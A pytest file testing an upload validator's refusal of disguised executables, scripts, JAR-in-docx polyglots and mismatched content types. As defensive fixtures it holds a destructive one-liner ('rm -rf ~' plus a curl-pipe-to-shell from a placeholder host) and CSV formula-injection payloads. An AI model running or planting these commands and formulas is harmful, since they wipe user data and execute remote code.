"""Programs, scripts, pages and archives under the name of something harmless.

The name only says which rules apply; libmagic on the head says what the file
is, and the two must agree. A program is refused as ``executable_content``
whatever it is called; a script or a page as ``content_mismatch``; a zip is
a Word document only if it is one (and carries no Java).
"""
from __future__ import annotations

import pytest

from tests.conftest import validate
from tests.hostile import corpus
from tests.hostile.checks import assert_refused, assert_safe_download, assert_stored, stored_files

PROGRAMS = {"pe": corpus.PE, "elf": corpus.ELF, "macho-64": corpus.MACHO_64, "macho-32": corpus.MACHO_32,
            "macho-universal": corpus.MACHO_FAT}


@pytest.mark.parametrize("name", ["invoice.pdf", "notes.txt", "holiday.jpg", "data.csv", "backup.zip",
                                  "report.docx", "logo.svg"])
@pytest.mark.parametrize("kind", PROGRAMS)
def test_a_renamed_program_is_refused_as_executable(client, app, kind, name):
    body = assert_refused(client, app, name, PROGRAMS[kind], 415, "executable_content")
    assert "program" in body["error"]


@pytest.mark.parametrize("kind", PROGRAMS)
def test_the_validator_refuses_programs_from_the_first_chunk(validator, kind):
    verdict = validate(validator.channel, "readme.txt", PROGRAMS[kind])
    assert not verdict.accepted and verdict.reasons[0].code == "executable_content"
    assert verdict.reasons[0].rule == "validator_service.rules.content"


@pytest.mark.parametrize("data,detected", [
    (corpus.SHELL_SCRIPT, "text/x-shellscript"),
    (corpus.PYTHON_SCRIPT, "text/x-script.python"),
    (corpus.PHP_SCRIPT, "text/x-php"),
    (corpus.HTML_PAGE, "text/html"),
    (corpus.HTML_FRAGMENT, "text/html"),
], ids=["shebang-sh", "shebang-python", "php", "html-page", "html-fragment"])
@pytest.mark.parametrize("name", ["notes.txt", "table.csv"])
def test_scripts_and_pages_named_as_text_are_refused(client, app, data, detected, name):
    body = assert_refused(client, app, name, data, 415, "content_mismatch")
    assert detected in body["error"]


def test_markup_libmagic_calls_text_is_stored_but_only_ever_served_as_text(client, app):
    """Not every string of tags is HTML to libmagic. What it calls text/plain is kept, and a
    browser gets it as text/plain with nosniff: it shows the tags, it never runs them."""
    data = corpus.HTML_LIBMAGIC_MISSES
    rec = assert_stored(client, app, "notes.txt", data, "text/plain")
    response = assert_safe_download(client, rec, data)
    assert response.headers["Content-Type"] == "text/plain; charset=utf-8"
    assert rec["thumbnail_url"] is None


# --- zip-based documents --------------------------------------------------

def test_a_jar_named_docx_is_refused(client, app):
    """Manifest first, then the document's parts: libmagic sees only a zip."""
    body = assert_refused(client, app, "report.docx", corpus.docx_that_is_a_jar(), 415, "executable_content")
    assert "META-INF/MANIFEST.MF" in body["error"]


def test_a_plain_zip_named_docx_is_refused(client, app):
    body = assert_refused(client, app, "report.docx", corpus.small_zip(), 415, "content_mismatch")
    assert "plain zip archive" in body["error"]


def test_a_jar_made_by_the_jar_tool_is_refused_under_any_allowed_name(client, app):
    for name in ("report.docx", "archive.zip"):
        body = assert_refused(client, app, name, corpus.jar_as_the_jar_tool_makes_it(), 415, "executable_content")
        assert "application/java-archive" in body["error"]


def test_a_docx_that_is_also_a_jar_is_refused(client, app):
    """Word opens it (libmagic names it a Word document) and `java -jar` runs it."""
    body = assert_refused(client, app, "report.docx", corpus.docx_carrying_a_jar(), 415, "executable_content")
    assert "Java" in body["error"]


def test_genuine_docx_still_passes_when_libmagic_can_only_call_it_a_zip(client, app):
    """A large part before the word/ parts hides the document from libmagic's look-ahead:
    the package still starts like one and carries no Java, so it is accepted."""
    data = corpus.docx_with_a_large_part_first()
    rec = assert_stored(client, app, "with thumbnail.docx", data, "application/zip")
    assert_safe_download(client, rec, data)


def test_archives_are_opaque_a_jar_named_zip_is_just_a_zip(client, app):
    """The service stores archives, it does not judge what is inside them (see SECURITY.md):
    a zip of class files is a zip. It is served as application/zip, never run."""
    data = corpus.jar()
    rec = assert_stored(client, app, "classes.zip", data, "application/zip")
    assert_safe_download(client, rec, data)


@pytest.mark.parametrize("make,code", [
    (corpus.docx_that_is_a_jar, "executable_content"),
    (corpus.docx_carrying_a_jar, "executable_content"),
    (corpus.jar, "executable_content"),
    (corpus.jar_as_the_jar_tool_makes_it, "executable_content"),
    (corpus.small_zip, "content_mismatch"),
    (corpus.zip_bomb, "content_mismatch"),
    (corpus.docx_with_a_large_part_first, None),
    (lambda: corpus.genuine("docx"), None),
], ids=["jar-then-docx", "docx-then-jar", "jar", "jar-tool", "zip", "zip-bomb", "large-part-first", "genuine"])
def test_the_validator_on_zips_named_docx(validator, make, code):
    verdict = validate(validator.channel, "report.docx", make())
    if code is None:
        assert verdict.accepted, verdict.reasons
    else:
        assert not verdict.accepted and verdict.reasons[0].code == code
    assert verdict.bytes_read <= 64 * 1024 or verdict.accepted  # decided from the head libmagic read


def test_java_past_the_head_of_a_large_docx_is_not_seen(validator):
    """The limit, stated as a test (SECURITY.md, "File content validation"): entries whose
    headers lie past the first 64 KiB are not scanned, since the validator judges heads. Such a
    file is stored and served as a document; nothing here ever runs it. A rule that closes this
    makes this test fail: update SECURITY.md with it."""
    import io
    import os
    import zipfile

    from validator_service.rules.ooxml import entry_names

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as zf:
        for name, data in corpus.docx_parts():
            zf.writestr(name, data)
        zf.writestr("word/media/image1.png", os.urandom(100 * 1024))
        zf.writestr("META-INF/MANIFEST.MF", corpus.MANIFEST)
    data = out.getvalue()
    assert "META-INF/MANIFEST.MF" in {name for _, name in entry_names(data)}
    assert "META-INF/MANIFEST.MF" not in {name for _, name in entry_names(data[:64 * 1024])}
    assert validate(validator.channel, "large.docx", data).accepted


def test_a_stored_file_is_never_executable_nor_readable_by_others(client, app):
    """A script without a shebang is just text to libmagic, so it is accepted as .txt: on disk
    it has a random name, no execute bit and no permission for other users, and nothing in the
    service runs, includes or interprets stored files."""
    import os
    import stat

    script = b"rm -rf ~\ncurl http://example.invalid/x | sh\n"
    rec = assert_stored(client, app, "install.txt", script, "text/plain")
    [path] = [p for p in stored_files(app) if p.endswith(rec["filename"])]
    mode = stat.S_IMODE(os.stat(path).st_mode)
    assert mode & 0o111 == 0 and mode & 0o007 == 0, oct(mode)


def test_spreadsheet_formulas_in_a_csv_are_stored_as_sent(client, app):
    """CSV injection is a risk for whoever opens the file in a spreadsheet, not for this
    service: it never rewrites content (see SECURITY.md). The bytes come back unchanged and are
    served as text, so the browser shows them; it is the spreadsheet that must not run them."""
    data = (b"name,total,note\n=HYPERLINK(\"http://example.invalid\",\"click\"),1,a\n"
            b"=cmd|' /C calc'!A0,2,b\n+SUM(1+1),3,c\n@SUM(1),4,d\n")
    rec = assert_stored(client, app, "report.csv", data, "text/plain")
    assert_safe_download(client, rec, data)


@pytest.mark.parametrize("declared", [b"text/html", b"image/svg+xml", b"application/x-msdownload", b"image/png"])
def test_the_declared_content_type_is_never_believed(client, app, declared):
    """The part's Content-Type is the client's word: what is recorded and served is libmagic's."""
    from tests.hostile.checks import BOUNDARY, multipart

    data = b"plain words and nothing else\n"
    response = client.post("/upload", data=multipart(b'filename="words.txt"', data, content_type=declared),
                           content_type=f"multipart/form-data; boundary={BOUNDARY}")
    assert response.status_code == 201, response.get_json()
    rec = response.get_json()
    assert rec["type"] == "text/plain"
    served = assert_safe_download(client, rec, data)
    assert served.headers["Content-Type"] == "text/plain; charset=utf-8"
